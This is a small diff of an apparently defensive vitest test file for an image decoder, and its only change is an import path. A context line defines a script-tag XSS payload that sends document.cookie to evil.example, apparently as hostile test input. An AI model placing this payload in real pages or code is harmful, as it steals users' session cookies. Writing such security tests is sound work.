@@ -3,7 +3,7 @@ import { crc32, deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { describe, expect, test } from "vitest";
 import { asPhoto, PHOTO_BYTES_MAX } from "../../src/pictures/decoder.ts";
-import { noise } from "../shop/pictures/some-pictures.ts";
+import { noise } from "../shop/reviews/some-pictures.ts";
 
 const script = "<script>fetch('https://evil.example/'+document.cookie)</script>";
 
